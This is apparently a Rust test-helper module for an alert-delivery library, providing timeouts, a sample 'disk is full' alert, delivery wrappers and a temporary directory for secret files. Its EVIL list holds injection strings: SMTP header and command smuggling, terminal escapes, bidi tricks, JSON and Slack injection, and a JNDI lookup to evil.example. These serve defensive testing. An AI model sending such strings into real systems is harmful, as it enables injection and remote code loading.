//! Messages, targets and deliveries as most tests need them.

use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use serde_json::{Value, from_value};
use tempfile::TempDir;
use tidegate_deliver::{Courier, Failure, Message, Receipt, Target};

/// For what is certain to come; only a failing test waits so long.
pub(crate) const LIMIT: Duration = Duration::from_secs(30);

/// For what never comes: how long a test waits for it.
pub(crate) const SHORT: Duration = Duration::from_millis(300);

/// Texts that mean harm in one medium or another.
pub(crate) const EVIL: &[&str] = &[
    "x\r\nBcc: evil@example.com\r\n\r\nbody",
    "x\r\n.\r\nMAIL FROM:<evil@example.com>\r\n",
    "\u{1b}[2J\u{1b}]0;evil\u{7}\u{9b}31m\u{7f}\0",
    "\u{202e}drow\u{2066}\u{2028}line\u{2029}\u{feff}",
    "\"},{\"id\":\"other\"}\n{\"id\":\"other\"}",
    "<!channel> <https://evil.example|click> @here & ```x```",
    "${jndi:ldap://evil.example/x} %s%n {{ 7*7 }}",
];

pub(crate) fn message() -> Message {
    Message {
        id: "0199a0b1-7c3e-7d52-9a41-2f6f1b0c8d11".to_owned(),
        subject: "disk is full".to_owned(),
        text: "93 % of /var\nfor 5 minutes".to_owned(),
        severity: "critical".to_owned(),
        body: r#"{"version":"4","alerts":[]}"#.to_owned(),
        at: SystemTime::UNIX_EPOCH + Duration::from_secs(1_700_000_000),
    }
}

pub(crate) fn target(settings: &Value) -> Target {
    from_value(settings.clone()).unwrap()
}

pub(crate) async fn deliver(settings: &Value, message: &Message) -> Result<Receipt, Failure> {
    deliver_within(settings, message, LIMIT).await
}

pub(crate) async fn deliver_within(
    settings: &Value,
    message: &Message,
    timeout: Duration,
) -> Result<Receipt, Failure> {
    let courier = Courier::new().unwrap();
    courier.deliver(&target(settings), message, timeout).await
}

/// A directory with files for settings and secrets.
pub(crate) struct Home(TempDir);

impl Home {
    pub(crate) fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    pub(crate) fn dir(&self) -> &Path {
        self.0.path()
    }

    /// A reference to a secret, which is put in a file.
    pub(crate) fn secret(&self, name: &str, secret: &str) -> String {
        let path = self.path(name);
        fs::write(&path, secret).unwrap();
        format!("file:{}", path.display())
    }
}
